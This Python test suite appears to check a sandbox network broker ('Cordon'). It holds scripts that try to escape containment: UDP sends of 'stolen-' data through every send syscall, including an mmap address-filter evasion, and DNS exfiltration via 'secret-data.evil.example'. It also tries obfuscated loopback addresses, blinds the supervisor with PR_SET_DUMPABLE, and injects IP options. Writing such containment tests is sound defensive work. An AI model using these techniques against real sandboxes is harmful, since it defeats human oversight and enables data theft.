"""Network mode allow without a network of the sandbox's own: the command's sockets are the host's, so
every way to the network is the broker's or refused. The cases of the other backends come first."""

import json
import os
import signal

from attack.test_nt import (  # noqa: F401
    PRELUDE, test_FS19_address_flipped_between_check_and_use,
    test_FS20_memory_that_cannot_be_read, test_FS21_injection_that_fails_is_a_refusal,
    test_NT01_direct_dialling_around_proxy_variables, test_NT02_plain_http_and_any_other_port,
    test_NT04_control_bytes_in_a_name, test_NT06_suffix_without_a_dot,
    test_NT09_deny_of_a_port_under_a_wildcard, test_NT18_embedded_addresses, test_NT20_metadata,
    test_NT21_rebinding, test_NT22_redirect, test_NT25_lookup_that_fails,
    test_NT26_no_proxy_variables_at_all, test_NT27_datagrams, test_NT28_multipath,
    test_NT33_loopback_services_of_the_host, bare, inside, refused_inside_only)
from egress.test_clients import (  # noqa: F401
    compiled, test_a_static_program_with_its_own_resolver, test_curl, test_git, test_node_fetch, test_node_with_its_own_resolver, test_python_asyncio,
    test_shell, test_wget)
from egress.test_reach import (  # noqa: F401
    FETCH, fetch, test_a_denied_name_or_port_of_a_wildcard, test_a_mixed_answer_is_reached_where_it_may_be,
    test_a_port_that_is_not_named_is_refused, test_a_private_address_may_be_named_beside_the_name,
    test_a_redirect_is_judged_anew, test_a_rule_for_loopback_means_the_hosts,
    test_an_allowed_address_is_reached_and_another_is_not, test_both_families, test_ipv6_by_address,
    test_loopback_without_a_port_stays_inside, test_names, test_names_that_lead_astray,
    test_the_control_reaches_everything, test_the_hosts_file_of_the_host_counts)
from egress.test_real_name import CLIENTS, HOST, RULE, URL, authority_of
from egress.test_shared_sockets import (  # noqa: F401
    test_a_copy_in_another_process_is_refused, test_an_exclusive_watch_is_moved,
    test_programs_that_are_started_meanwhile_do_not_disturb)
from egress.test_sockets import (  # noqa: F401
    test_a_blocking_socket, test_a_descriptor_swapped_while_it_is_judged, test_a_non_blocking_socket,
    test_an_epoll_that_watched_before_is_moved, test_duplicates_are_moved_too, test_threads)
from support import harness
from support.internet import allow, running

GOOD = "203.0.113.10"
OTHER = "203.0.113.11"


def test_the_report_says_what_is_held_and_what_is_not(net):
    lines, report = fetch(net, "http://good.example/", "http://other.example/", rules=["good.example"])
    assert lines[0] == "far 203.0.113.10 good.example" and lines[1].startswith("failed"), lines
    held = report["enforcement"]
    assert held["backend"] == "landlock" and held["network"] == "allow"
    assert "loopback" in held["lost"], held


def test_a_host_with_rules_is_trusted_by_variables_alone(net):
    trust = {"SSL_CERT_FILE": str(authority_of(net.internet))}
    done, report = net.report(*CLIENTS["urllib"], URL, options=RULE, env=trust)
    assert json.loads(done.expect(0).out)["path"] == "/v1/models", done.account()
    assert [r["because"] for r in report["reductions"] if r["what"] == "trust"] == ["unenforceable"]
    refused = net.run(*CLIENTS["urllib"], f"https://{HOST}/other", options=RULE, env=trust)
    assert refused.status != 0 and "403" in refused.err, refused.account()
    # What goes by the host's own bundle does not trust it.
    refused = net.run(*CLIENTS["wget"], URL, options=RULE, env=trust)
    assert refused.status != 0 and refused.out == "", refused.account()


# What only an empty network stops elsewhere.


def test_loopback_of_the_host_is_refused_and_told(net):
    script = """
print(reach("127.0.0.1", 8081), reach("0.0.0.0", 8081), reach("::1", 8081, socket.AF_INET6))
for text in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0"):
    print(reach(text, 8081))
"""
    words, report = inside(net, script)
    assert words == ["EACCES"] * 8, words
    assert set(bare(net, script)) == {"ok"}, "the control is broken"
    refused = [c for c in report["connections"] if not c["allowed"]]
    assert refused and all("the host's needs a rule" in c["reason"] for c in refused), refused
    assert any(d["what"] == "connect" and d["layer"] == "broker" for d in report["denials"])


def test_a_supervisor_that_cannot_look_refuses(net):
    blind = "libc.prctl(4, 0, 0, 0, 0)\n"  # PR_SET_DUMPABLE
    refused_inside_only(net, blind + f'print(reach("{OTHER}"))')
    # Root sees everything. Elsewhere a user does too, having the rights of the namespace.
    words, _ = inside(net, blind + f'print(reach("{GOOD}"))', rules=[GOOD])
    assert words == ["ok" if net.who.is_root else "EPERM"], words


def test_a_send_timeout_bounds_the_connect(net):
    words, _ = inside(net, """
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 300000))
began = time.monotonic()
print(code(s.connect, ("203.0.113.200", 80)), time.monotonic() - began < 10)
""", rules=["203.0.113.200"])
    assert words == ["EINPROGRESS", "True"], words


def test_no_port_of_the_host_is_taken(net):
    script = """
s = socket.socket()
print(code(s.bind, ("127.0.0.1", 0)), code(s.bind, ("0.0.0.0", 18099)), code(s.listen))
print(code(socket.socket(socket.AF_INET6).bind, ("::", 0)), code(socket.socket().listen))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(code(u.bind, ("127.0.0.1", 18098)))
print(code(u.bind, ("0.0.0.0", 18098)))
"""
    words, report = inside(net, script)
    assert words == ["EACCES"] * 7, words
    assert "ok" in bare(net, script), "the control is broken"
    assert any(d["what"] == "bind" for d in report["denials"]), report["denials"]


SENDERS = r"""
import array
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]
class Header(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("name_size", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
                ("iovs", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class Many(ctypes.Structure):
    _fields_ = [("header", Header), ("sent", ctypes.c_uint)]
target = (sys.argv[1], int(sys.argv[2]))
data = b"stolen-" + sys.argv[3].encode()
name = packed(*target)
def header():
    return Header(name, 16, ctypes.pointer(Iovec(data, len(data))), 1, None, 0, 0)
def fresh():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def connected():
    u = fresh()
    u.connect(("203.0.113.53", 53))
    return u
for make in (fresh, connected):
    code(make().sendto, data, target)
    code(make().sendmsg, [data], [], 0, target)
    libc.sendmsg(make().fileno(), ctypes.byref(header()), 0)
    many = Many(header(), 0)
    libc.sendmmsg(make().fileno(), ctypes.byref(many), 1, 0)
    # An address that a filter takes for none: its lower half is zero.
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(ctypes.c_void_p(0x500000000), 4096, 3, 0x100032, -1, 0)
    if page == 0x500000000:
        ctypes.memmove(page, name, 16)
        libc.sendto(make().fileno(), data, len(data), 0, ctypes.c_void_p(page), 16)
    u = make()
    code(u.connect, target)
    code(u.send, data)
    os.write(u.fileno(), data)
    libc.connect(u.fileno(), b"\0" * 16, 16)
    code(u.sendto, data, target)
print("tried")
"""


def test_no_datagram_leaves_by_any_call(net):
    """The resolver takes whatever is sent, in each of the ways that there are."""
    script = PRELUDE + """
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("127.0.0.1", 0))
u.settimeout(float(sys.argv[1]))
print(u.getsockname()[1], flush=True)
sys.stdin.readline()
heard = set()
try:
    while True:
        heard.add(u.recv(100))
except TimeoutError:
    print(len(heard), flush=True)
"""
    for contained, expected in ((True, "0"), (False, "1")):
        with running(net.start(["/usr/bin/python3", "-c", script, "2"], stdin=-1)) as listener:
            port = listener.stdout.readline().decode().strip()
            words = ["/usr/bin/python3", "-c", PRELUDE + SENDERS, "127.0.0.1", port, "x"]
            if contained:
                done, report = net.report(*words, options=allow("good.example"))
            else:
                done = net.bare(*words)
            assert done.expect(0).out == "tried\n", done.account()
            listener.stdin.write(b"\n")
            listener.stdin.flush()
            assert listener.stdout.readline().decode().strip() == expected, contained
            if contained:
                assert any(d["what"] == "send" for d in report["denials"]), report["denials"]


def test_a_socket_that_is_connected_cannot_be_led_elsewhere(net):
    script = f"""
s = socket.create_connection(("{GOOD}", 80))
print(code(s.connect, ("{OTHER}", 80)))
unspecified = b"\\0" * 16
print(libc.connect(s.fileno(), unspecified, 16), errno.errorcode[ctypes.get_errno()])
print(s.getpeername()[0])
t = socket.socket()
print(code(t.sendto, b"x", 0x20000000, ("{OTHER}", 80)), code(t.sendmsg, [b"x"], [], 0x20000000, ("{OTHER}", 80)))
print(code(t.setsockopt, 6, 30, 1), code(t.setsockopt, 1, 25, b"lo\\0"))
s.setsockopt(0, 4, b"\\x83\\x0b\\x04" + socket.inet_aton("{OTHER}") * 2 + b"\\0")
print(len(s.getsockopt(0, 4, 64)))
"""
    words, _ = inside(net, script, rules=[GOOD])
    assert words == ["EISCONN", "-1", "EPERM", GOOD, "EPERM", "EPERM", "EPERM", "EPERM", "0"], words


def test_no_other_family_or_protocol(net):
    script = """
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (2, 2, 136), (2, 1, 132), (2, 1, 262),
                               (2, 2, 1), (16, 3, 0), (16, 3, 4), (17, 3, 0), (40, 1, 0), (38, 5, 0),
                               (1, 2, 0), (44, 3, 0), (29, 3, 1), (2, 10, 0), (2, 6, 0)):
    print(code(socket.socket, family, kind, protocol))
"""
    words, _ = inside(net, script, rules=[GOOD])
    assert len(words) == 17 and set(words) <= {"EPERM", "EACCES", "EAFNOSUPPORT", "EINVAL"}, words


def test_names_over_a_stream_and_by_any_server(net, internet):
    """Whatever server is asked, over whatever transport, Cordon answers by the rules."""
    script = r"""
def query(name):
    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + body + b"\0\1\0\1"
def stream(server, name):
    s = socket.create_connection((server, 53), 30)
    s.sendall(struct.pack("!H", len(query(name))) + query(name))
    size, = struct.unpack("!H", s.recv(2))
    return s.recv(size)[3] & 15
def datagram(server, name):
    # As musl and others do: not connected, and the sender has to be the server.
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", 0))
    u.settimeout(30)
    u.sendto(query(name), (server, 53))
    answer, sender = u.recvfrom(512)
    return sender == (server, 53), answer[3] & 15
def message(server, name):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(30)
    u.sendmsg([query(name)], [], 0, (server, 53))
    u.connect((server, 53))
    head, tail = bytearray(12), bytearray(500)
    size, control, flags, sender = u.recvmsg_into([head, tail])
    return sender == (server, 53) and u.getpeername() == sender and u.getsockname()[1] > 0, head[3] & 15
for ask in (stream, datagram, message):
    for server in ("203.0.113.53", "127.0.0.1", "192.0.2.1"):
        print(ask(server, "good.example"), ask(server, "secret-data.evil.example"))
"""
    before = len(internet.queries())
    done, report = net.python(PRELUDE + script, options=allow("good.example"))
    lines = done.expect(0).out.splitlines()
    assert lines == ["0 3"] * 3 + ["(True, 0) (True, 3)"] * 6, done.account()
    assert internet.queries()[before:] == [], "a query left"
    assert "secret-data.evil.example" in str(report["denials"])


def test_a_blocking_receive_waits_and_times_out(net):
    words, _ = inside(net, """
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("203.0.113.53", 53))
u.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 1, 0))
begun = time.monotonic()
print(code(u.recvfrom, 100), 0.5 < time.monotonic() - begun < 10)
""")
    assert words == ["EAGAIN", "True"], words


def test_others_of_the_host_cannot_ask_the_resolver(net):
    """There is no address to ask it at: NT32, and what a run may reach is nobody else's business."""
    def listening():
        text = net.bare("sh", "-c", "cat /proc/net/tcp /proc/net/udp /proc/net/tcp6 /proc/net/udp6")
        return sorted(line.split()[1] for line in text.expect(0).out.splitlines()
                      if line.split()[3:4] in (["0A"], ["07"]))
    before = listening()
    script = PRELUDE + "print(reach('good.example'), flush=True)\nsys.stdin.readline()"
    with running(net.start_run("/usr/bin/python3", "-c", script, options=allow("good.example"),
                               stdin=-1)) as process:
        assert process.stdout.readline() == b"ok\n"
        assert listening() == before


def test_exhaustion(net):
    """Ten thousand questions, garbage, and more sockets than the resolver keeps: it answers on."""
    words, _ = inside(net, r"""
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("127.0.0.1", 53))
u.setblocking(False)
for i in range(10000):
    try:
        u.send(os.urandom(i % 600))
        if i % 50 == 0:
            u.recv(4096)
    except OSError:
        pass
u.close()
held = []
refused = 0
for i in range(400):
    try:
        held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    except OSError as error:
        refused += error.errno == errno.EMFILE
print(len(held) <= 128, refused > 0)
held.clear()
# That they are closed is noticed a little later.
for _ in range(60):
    answer = reach("good.example")
    if answer == "ok":
        break
    time.sleep(0.5)
print(answer)
""", timeout=120)
    assert words == ["True", "True", "ok"], words


def test_when_cordon_is_killed_everything_stops(net):
    marker = f"hosts-{os.getpid()}-{net.path.name}"
    script = PRELUDE + """
print(reach("good.example"), flush=True)
while True:
    reach("good.example")
"""
    with running(net.start_run("/usr/bin/python3", "-c", script, marker,
                               options=allow("good.example"))) as process:
        assert process.stdout.readline() == b"ok\n"
        os.kill(process.pid, signal.SIGKILL)
        assert harness.wait_until(lambda: not harness.processes_with(marker), harness.SOON)
